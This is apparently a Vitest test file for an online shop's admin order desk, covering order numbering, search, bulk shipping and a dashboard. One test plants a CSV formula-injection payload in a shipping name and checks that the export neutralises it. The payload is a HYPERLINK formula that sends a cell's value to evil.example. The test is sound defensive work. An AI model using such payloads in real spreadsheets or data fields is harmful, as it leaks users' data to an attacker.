import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { as, appRequest as request } from "../support/admin";
import { auditRowsAfter, lastAuditId } from "../support/audit";
import { unique } from "../support/factories";
import { ORIGIN } from "../support/http";
import { makePaidOrder, makePendingOrder, orderRow } from "../support/orders";

// Issue 32: order numbers, the dashboard and the order desk. This file runs in its own storage
// (test/admin/** is isolated), so the migration test may take the tables back to today's shape.

describe("migration order_desk on today's shape", () => {
  it("numbers existing orders by age from #1001, starts the counter after them, and numbers the next insert", async () => {
    const migration = env.TEST_MIGRATIONS.find((m) => m.name.endsWith("_order_desk.sql") || m.name.endsWith("_order_desk"))!;
    // Back to the shape of migration 0014 (what production has today).
    for (const q of [
      "DROP TRIGGER orders_assign_number",
      "DROP INDEX orders_number_unique",
      "DROP INDEX orders_paid_at_idx",
      "ALTER TABLE orders DROP COLUMN number",
      "DROP TABLE order_counters",
      "DROP TABLE order_refund_lines",
      "DROP TABLE session_step_up",
    ])
      await env.DB.prepare(q).run();
    const ids = ["ord_mig_c", "ord_mig_a", "ord_mig_b"];
    const created = ["2020-03-01T00:00:00.000Z", "2020-01-01T00:00:00.000Z", "2020-02-01T00:00:00.000Z"];
    for (const [i, id] of ids.entries()) {
      await env.DB.prepare(
        "INSERT INTO orders (id, user_id, currency, subtotal_cents, total_cents, provider, status, created_at) VALUES (?, 'usr_mig', 'USD', 100, 100, 'simulator', 'paid', ?)",
      )
        .bind(id, created[i])
        .run();
    }
    for (const q of migration.queries) await env.DB.prepare(q).run();
    // The later migrations' changes to the tables this one made (refund lines per variant), so the
    // rest of this file runs on today's shape again.
    const later = env.TEST_MIGRATIONS.filter((m) => m.name > migration.name);
    for (const q of later.flatMap((m) => m.queries).filter((q) => q.includes("`order_refund_lines`"))) await env.DB.prepare(q).run();
    const numbers = (await env.DB.prepare("SELECT id, number FROM orders WHERE id LIKE 'ord_mig_%' ORDER BY number").all<{ id: string; number: number }>())
      .results;
    expect(numbers).toEqual([
      { id: "ord_mig_a", number: 1001 },
      { id: "ord_mig_b", number: 1002 },
      { id: "ord_mig_c", number: 1003 },
    ]);
    const total = (await env.DB.prepare("SELECT COUNT(*) AS n FROM orders").first<{ n: number }>())!.n;
    expect((await env.DB.prepare("SELECT value FROM order_counters WHERE name = 'orders'").first<{ value: number }>())!.value).toBe(1000 + total);
    const { order } = await makePendingOrder();
    expect(order.number).toBe(1001 + total);
  });
});

describe("order numbers", () => {
  it("orders written at once each get their own number, one after the other, never shared", async () => {
    const written = await Promise.all(Array.from({ length: 12 }, () => makePendingOrder()));
    const numbers = written.map((w) => w.order.number!).sort((a, b) => a - b);
    expect(new Set(numbers).size).toBe(12);
    expect(numbers[11]! - numbers[0]!).toBe(11);
  });

  it("the number is what shopper and staff read (pages, API, receipt subject); the long id stays in links", async () => {
    const admin = await as("admin");
    const { orderId, cookie } = await makePaidOrder();
    const order = (await orderRow(orderId))!;
    const label = `#${order.number}`;
    const shopperPage = await (await request(`/orders/${orderId}`, { headers: { cookie } })).text();
    expect(shopperPage).toContain(`Order ${label}`);
    expect(shopperPage).not.toContain(`<h1 class="page-title">Order ${orderId}`);
    expect(await (await request("/orders", { headers: { cookie } })).text()).toContain(`>${label}</a>`);
    expect(((await (await request(`/api/orders/${orderId}`, { headers: { cookie } })).json()) as { number: number }).number).toBe(order.number);
    const staffHtml = await (await request(`/admin/orders/${orderId}`, { headers: admin })).text();
    expect(staffHtml).toContain(`data-order-number="true">${label}<`);
    const list = (await (await request(`/api/admin/orders?q=${order.number}`, { headers: admin })).json()) as { items: { id: string; number: number }[] };
    expect(list.items.map((i) => i.id)).toEqual([orderId]);
  });
});

describe("the order desk", () => {
  it("finds orders by part of the number, email, name and product; filters by payment, fulfilment and dates", async () => {
    const admin = await as("admin");
    const a = await makePaidOrder();
    const b = await makePaidOrder();
    const name = `Ada ${unique("Lovelace")}`;
    await env.DB.prepare("UPDATE orders SET shipping_address = ? WHERE id = ?")
      .bind(JSON.stringify({ name, country: "GB" }), a.orderId)
      .run();
    const slug = (await env.DB.prepare("SELECT p.slug FROM products p JOIN order_lines l ON l.product_id = p.id WHERE l.order_id = ?")
      .bind(b.orderId)
      .first<{ slug: string }>())!.slug;
    const ids = async (query: string) =>
      ((await (await request(`/api/admin/orders?${query}`, { headers: admin })).json()) as { items: { id: string }[] }).items.map((i) => i.id);
    const number = String((await orderRow(a.orderId))!.number);
    expect(await ids(`q=${encodeURIComponent(`#${number.slice(0, -1)}`)}`)).toContain(a.orderId);
    expect(await ids(`q=${encodeURIComponent(a.email.slice(0, 18).toUpperCase())}`)).toEqual([a.orderId]);
    expect(await ids(`q=${encodeURIComponent(name.slice(4))}`)).toEqual([a.orderId]);
    expect(await ids(`q=${encodeURIComponent(slug)}`)).toEqual([b.orderId]);
    expect(await ids("q=%25")).toEqual([]); // wildcards are literal
    await request(`/api/admin/orders/${b.orderId}/refunds`, {
      method: "POST",
      headers: { ...admin, origin: ORIGIN, "content-type": "application/json" },
      body: JSON.stringify({ amountCents: 100 }),
    });
    expect(await ids("payment=partially_refunded")).toEqual([b.orderId]);
    expect(await ids("payment=paid")).toContain(a.orderId);
    expect(await ids("payment=paid")).not.toContain(b.orderId);
    await env.DB.prepare("UPDATE orders SET created_at = '2021-06-15T12:00:00.000Z' WHERE id = ?").bind(a.orderId).run();
    expect(await ids("from=2021-06-15T00:00:00Z&to=2021-06-16T00:00:00Z")).toEqual([a.orderId]);
    // The page takes local days: 15 June in New York still holds 12:00 UTC.
    const page = await (
      await request("/admin/orders?from=2021-06-15&to=2021-06-15", { headers: { ...admin, cookie: `${admin.cookie}; tz=America/New_York` } })
    ).text();
    expect(page).toContain(`data-order="${a.orderId}"`);
    expect(page).not.toContain(`data-order="${b.orderId}"`);
    expect(await ids("fulfilment=shipped")).not.toContain(a.orderId);
  });

  it("bulk shipping goes through fulfilment: paid orders ship with their tracking numbers, a disputed one is refused and unchanged", async () => {
    const admin = await as("admin");
    const [one, two, disputed] = await Promise.all([makePaidOrder(), makePaidOrder(), makePaidOrder()]);
    await env.DB.prepare("UPDATE orders SET dispute_status = 'needs_response' WHERE id = ?").bind(disputed.orderId).run();
    const since = await lastAuditId();
    const body = new URLSearchParams({ carrier: "DHL" });
    for (const [o, tracking] of [
      [one, "TRK 1"],
      [two, "TRK 2"],
      [disputed, "TRK 3"],
    ] as const) {
      body.append("ship", o.orderId);
      body.set(`tracking.${o.orderId}`, tracking);
    }
    const res = await request("/admin/orders/ship", {
      method: "POST",
      headers: { ...admin, origin: ORIGIN, "content-type": "application/x-www-form-urlencoded" },
      body,
      redirect: "manual",
    });
    expect(res.status).toBe(303);
    expect(res.headers.get("location")).toContain("shipped=2");
    expect(res.headers.get("location")).toContain("order_disputed");
    expect(await orderRow(one.orderId)).toMatchObject({ fulfilment: "shipped", carrier: "DHL", trackingNumber: "TRK 1" });
    expect(await orderRow(two.orderId)).toMatchObject({ fulfilment: "shipped", trackingNumber: "TRK 2" });
    expect(await orderRow(disputed.orderId)).toMatchObject({ fulfilment: "unfulfilled", trackingNumber: null });
    const shipped = (await auditRowsAfter(since)).filter((r) => r.action === "order.shipped").map((r) => r.subject);
    expect(shipped.sort()).toEqual([one.orderId, two.orderId].sort());
    // Support cannot ship in bulk.
    const support = await as("support");
    const refused = await request("/admin/orders/ship", {
      method: "POST",
      headers: { ...support, origin: ORIGIN, "content-type": "application/x-www-form-urlencoded" },
      body: new URLSearchParams({ carrier: "DHL", ship: disputed.orderId, [`tracking.${disputed.orderId}`]: "X" }),
    });
    expect(refused.status).toBe(403);
  });

  it("P03 CSV export cells cannot run as formulas: = + - @ tab and CR are quoted and prefixed, quotes doubled; admin only", async () => {
    const admin = await as("admin");
    const { orderId } = await makePaidOrder();
    const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click")`;
    await env.DB.prepare("UPDATE orders SET shipping_address = ?, coupon_code = ? WHERE id = ?")
      .bind(JSON.stringify({ name: evil }), "@SUM(1+1)", orderId)
      .run();
    const number = (await orderRow(orderId))!.number!;
    const res = await request(`/admin/orders/export.csv?q=${number}`, { headers: admin });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("text/csv");
    const csv = await res.text();
    const row = csv.split("\r\n")[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(row).toContain(`"'@SUM(1+1)"`);
    // No cell, unquoted, starts with a formula character.
    const cells = row.match(/"(?:[^"]|"")*"/g)!.map((c) => c.slice(1, -1).replaceAll('""', '"'));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const support = await as("support");
    expect((await request(`/admin/orders/export.csv`, { headers: support })).status).toBe(403);
  });

  it("the dashboard counts today's sales, orders to ship and open disputes, each a link into its list; customers and packing slips open from orders", async () => {
    const admin = await as("admin");
    const { orderId, email } = await makePaidOrder();
    await env.DB.prepare("UPDATE orders SET dispute_status = 'warning_needs_response' WHERE id = ?").bind(orderId).run();
    const page = await (await request("/admin", { headers: admin })).text();
    const tile = (name: string) => new RegExp(`data-tile="${name}"[^]*?class="tile-value"[^>]*>([^<]+)<`).exec(page)?.[1];
    expect(tile("to-ship")).toMatch(/^\d+$/);
    expect(Number(tile("to-ship"))).toBeGreaterThanOrEqual(1);
    expect(Number(tile("disputes"))).toBeGreaterThanOrEqual(1);
    expect(tile("sales-today")).toMatch(/^\$[\d,]+\.\d\d$/);
    expect(page).toContain('href="/admin/orders?status=paid&amp;fulfilment=unfulfilled"');
    expect(page).toContain('href="/admin/orders?dispute=open"');
    const disputes = (await (await request("/api/admin/orders?dispute=open", { headers: admin })).json()) as { items: { id: string }[] };
    expect(disputes.items.map((i) => i.id)).toContain(orderId);
    const detail = await (await request(`/admin/orders/${orderId}`, { headers: admin })).text();
    const customer = /href="(\/admin\/customers\/[^"]+)"/.exec(detail)![1]!;
    const customerPage = await (await request(customer, { headers: await as("support") })).text();
    expect(customerPage).toContain(email);
    expect(customerPage).toContain(`data-total-spent="true">$22.50<`);
    const slip = await request(`/admin/orders/packing-slips?ids=${orderId}`, { headers: admin });
    expect(slip.status).toBe(200);
    const slipText = await slip.text();
    expect(slipText).toContain(`Packing slip #${(await orderRow(orderId))!.number}`);
    expect(slipText).not.toContain("$22.50");
  });
});
